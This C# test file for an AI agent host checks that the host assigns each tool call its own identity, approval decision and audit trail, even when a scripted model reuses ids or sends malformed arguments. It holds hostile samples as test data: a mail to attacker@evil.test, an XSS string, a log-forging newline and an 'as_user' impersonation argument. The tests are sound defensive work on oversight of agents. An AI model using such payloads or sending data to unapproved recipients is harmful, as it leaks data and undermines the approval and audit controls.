using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using System.Text.Json.Nodes;
using AgentHost.Tests.Emulators;

namespace AgentHost.Tests.Host;

/// <summary>
/// The host, not the model, says which call is which (issue 14, item 1): a scripted model sends the ids an
/// attacker would choose, and every call still gets its own decision, its own audit events and at most
/// its own execution.
/// </summary>
public sealed class CallIdentityTests : RunHostTest
{
    private const string Partner = """{"to":["ops@partner.test"],"subject":"status","body":"all green"}""";
    private const string Attacker = """{"to":["attacker@evil.test"],"subject":"roadmap","body":"attached"}""";

    [Theory]
    [InlineData("dup", "dup")]
    [InlineData("", "")]
    [InlineData(null, null)]
    public async Task TwoCallsSharingAnId_ApprovingTheFirst_ExecutesOnlyTheFirst_AndTheSecondIsDecidedOnItsOwn(string? firstId, string? secondId)
    {
        // The emulator numbers calls itself when a test gives no id; then both get one and the same shared one.
        var (a, b) = (firstId ?? "same_id", secondId ?? "same_id");
        var agent = await RunsApi.CreateAgentAsync(Host);
        Model.Enqueue(new ModelReply.ToolCalls([new ToolCall("email-send", Partner, a), new ToolCall("email-send", Attacker, b)]));
        var parked = await RunsApi.RunToEndAsync(Host, agent, "Mail the partner our status", until: "awaiting_approval");
        var runId = parked.GetProperty("id").GetString()!;
        var approval = (await Host.CreateClientAs("bob@example.com").GetFromJsonAsync<JsonElement>("/api/approvals?status=pending")).EnumerateArray().Single(x => x.GetProperty("runId").GetString() == runId);
        Model.Enqueue(new ModelReply.Text("Sent the status; the other mail was refused."));

        (await Host.CreateClientAs("bob@example.com").PostAsJsonAsync($"/api/approvals/{approval.GetProperty("id").GetString()}/decision", new { decision = "approve" })).StatusCode.ShouldBe(HttpStatusCode.OK);
        var run = await RunsApi.WaitForAsync(Host, runId);

        run.GetProperty("status").GetString().ShouldBe("succeeded", run.ToString());
        var sent = Tools.Calls.ShouldHaveSingleItem();
        ((string[])sent.Arguments["to"]!).ShouldBe(["ops@partner.test"]);
        var calls = run.GetProperty("toolCalls").EnumerateArray().ToList();
        calls.Select(c => c.GetProperty("callId").GetString()).ShouldBe(["call_1_0", "call_1_1"]);
        calls.Select(c => c.GetProperty("outcome").GetString()).ShouldBe(["executed", "denied"]);
        calls[1].GetProperty("rules").EnumerateArray().Select(r => r.GetString()).ShouldContain("email-send-recipient-not-allowed");
        var audit = await EventsAsync(runId);
        audit.Where(e => e.Type == "action.requested").Select(e => e.CallId).ShouldBe(["call_1_0", "call_1_1"]);
        audit.Where(e => e.Type == "policy.decided").Select(e => e.CallId).ShouldBe(["call_1_0", "call_1_1"]);
        audit.Where(e => e.Type == "action.executed").Select(e => e.CallId).ShouldBe(["call_1_0"]);
        AssertHistoryValid();
    }

    [Fact]
    public async Task AnIdOfAnEarlierTurnsCall_IsANewCall_DecidedAndAudited()
    {
        var agent = await RunsApi.CreateAgentAsync(Host);
        Model.Enqueue(
            new ModelReply.ToolCalls([new ToolCall("slack-read_channel", """{"channel":"C0OPS"}""", "x")]),
            new ModelReply.ToolCalls([new ToolCall("email-send", Attacker, "x")]),
            new ModelReply.ToolCalls([new ToolCall("slack-read_channel", """{"channel":"C0OPS"}""", "x"), new ToolCall("slack-read_channel", """{"channel":"C0OPS"}""", "x")]),
            new ModelReply.Text("Done."));

        var run = await RunsApi.RunToEndAsync(Host, agent, "Read #ops");

        run.GetProperty("status").GetString().ShouldBe("succeeded", run.ToString());
        var calls = run.GetProperty("toolCalls").EnumerateArray().ToList();
        calls.Select(c => c.GetProperty("callId").GetString()).ShouldBe(["call_1_0", "call_2_0", "call_3_0", "call_3_1"]);
        calls.Select(c => c.GetProperty("modelCallId").GetString()).ShouldAllBe(id => id == "x");
        calls.Select(c => c.GetProperty("outcome").GetString()).ShouldBe(["executed", "denied", "executed", "executed"]);
        Tools.Calls.Count.ShouldBe(3);
        Tools.Calls.Select(c => c.CallId).ShouldBe(["call_1_0", "call_3_0", "call_3_1"]);
        var audit = await EventsAsync(run.GetProperty("id").GetString()!);
        audit.Count(e => e.Type == "action.requested").ShouldBe(4);
        audit.Count(e => e.Type == "policy.decided").ShouldBe(4);
        AssertHistoryValid();
    }

    [Theory]
    [InlineData("call <img src=x onerror=alert(1)>")]
    [InlineData("call\nforged-line")]
    [InlineData("0123456789012345678901234567890123456789012345678901234567890123456789")]
    public async Task OddOrOversizedModelIds_AreNeitherTheIdentityNorStored(string modelId)
    {
        var agent = await RunsApi.CreateAgentAsync(Host);
        Model.Enqueue(new ModelReply.ToolCalls([new ToolCall("slack-read_channel", """{"channel":"C0OPS"}""", modelId)]), new ModelReply.Text("Green."));

        var run = await RunsApi.RunToEndAsync(Host, agent, "Read #ops");

        run.GetProperty("status").GetString().ShouldBe("succeeded", run.ToString());
        var call = run.GetProperty("toolCalls").EnumerateArray().ShouldHaveSingleItem();
        call.GetProperty("callId").GetString().ShouldBe("call_1_0");
        call.GetProperty("modelCallId").ValueKind.ShouldBe(JsonValueKind.Null);
        (await Host.CreateClientAs("sam@example.com").GetStringAsync($"/api/audit?runId={run.GetProperty("id").GetString()}")).ShouldNotContain(modelId[..Math.Min(modelId.Length, 20)]);
        AssertHistoryValid();
    }

    [Theory]
    [InlineData("{not json", "not valid JSON")]
    [InlineData("""["C0OPS"]""", null)]
    [InlineData("""{"channel":{"id":"C0OPS"}}""", "channel: expected text")]
    [InlineData("""{"channel":"C0OPS","as_user":"U0BOSS"}""", "no argument 'as_user'")]
    [InlineData("""{"channel":["C0OPS","C0EXEC"]}""", "channel: expected text")]
    public async Task MalformedArguments_AreDeniedThroughTheGate_WithAnAuditedRule(string arguments, string? why)
    {
        var agent = await RunsApi.CreateAgentAsync(Host);
        Model.Enqueue(new ModelReply.ToolCalls([new ToolCall("slack-read_channel", arguments, "call_bad")]), new ModelReply.Text("Sorry."));

        var run = await RunsApi.RunToEndAsync(Host, agent, "Read");

        run.GetProperty("status").GetString().ShouldBe("succeeded", run.ToString());
        var call = run.GetProperty("toolCalls").EnumerateArray().ShouldHaveSingleItem();
        call.GetProperty("outcome").GetString().ShouldBe("denied");
        call.GetProperty("rules")[0].GetString().ShouldBe("builtin:malformed-arguments");
        Tools.Calls.ShouldBeEmpty();
        var audit = await EventsAsync(run.GetProperty("id").GetString()!);
        audit.Where(e => e.CallId == "call_1_0").Select(e => e.Type).ShouldBe(["action.requested", "policy.decided", "action.denied"]);
        audit.Single(e => e.Type == "policy.decided").Data["rules"]![0]!.GetValue<string>().ShouldBe("builtin:malformed-arguments");
        if (why is not null)
        {
            Model.Requests.Last()["messages"]!.AsArray().Last()!["content"]!.GetValue<string>().ShouldContain(why);
        }
    }

    /// <summary>Every tool message answers one call of the assistant message before it, and no call id repeats.</summary>
    private void AssertHistoryValid()
    {
        foreach (var request in Model.Requests)
        {
            var messages = request["messages"]!.AsArray();
            var seen = new HashSet<string>();
            for (var i = 0; i < messages.Count; i++)
            {
                if (messages[i]!["tool_calls"] is not JsonArray toolCalls)
                {
                    continue;
                }

                var ids = toolCalls.Select(c => c!["id"]!.GetValue<string>()).ToList();
                ids.ShouldBeUnique();
                ids.ShouldAllBe(id => seen.Add(id));
                var answers = messages.Skip(i + 1).TakeWhile(m => m!["role"]!.GetValue<string>() == "tool").Select(m => m!["tool_call_id"]!.GetValue<string>()).ToList();
                answers.Order().ShouldBe(ids.Order(), request.ToJsonString());
            }
        }
    }

    private async Task<List<(string Type, string? CallId, JsonObject Data)>> EventsAsync(string runId)
    {
        await RunsApi.AuditTypesAsync(Host, runId);
        var page = await Host.CreateClientAs("sam@example.com").GetFromJsonAsync<JsonObject>($"/api/audit?runId={runId}");
        return [.. page!["events"]!.AsArray().Select(e => (e!["type"]!.GetValue<string>(), e["data"]?["callId"]?.GetValue<string>(), e["data"] as JsonObject ?? []))];
    }
}
